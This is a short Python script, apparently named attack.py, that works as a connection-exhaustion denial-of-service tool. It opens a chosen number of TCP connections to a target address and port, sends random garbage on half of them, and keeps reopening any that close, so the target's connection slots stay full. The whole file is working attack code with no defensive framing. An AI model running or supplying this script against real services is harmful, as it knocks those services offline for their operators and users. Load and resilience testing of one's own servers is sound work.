"""A neighbour who connects wherever somebody listens: ``python attack.py ADDRESS PORT COUNT``.

Keeps so many connections open that say nothing, or garbage, until it is ended. Those that get no
answer or are cut off are made anew.
"""

import random
import socket
import sys
import time
from contextlib import suppress

PATIENCE_S = 0.3


def connection(address, port):
    made = socket.socket()
    made.setblocking(False)
    made.connect_ex((address, port))
    return made


def over(made):
    """Whether the other end has hung up, or never answered."""
    with suppress(BlockingIOError):
        try:
            while made.recv(4096):
                pass
        except OSError as error:
            if isinstance(error, BlockingIOError):
                raise
        return True
    return False


def main(address, port, count):
    made = [connection(address, port) for _ in range(count)]
    sys.stdout.write("attacking\n")
    sys.stdout.flush()
    while True:
        time.sleep(PATIENCE_S)
        for number, one in enumerate(made):
            if number % 2:
                with suppress(OSError):
                    one.send(random.randbytes(100))
            try:
                one.getpeername()
                gone = over(one)
            except OSError:  # never answered
                gone = True
            if gone:
                one.close()
                made[number] = connection(address, port)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
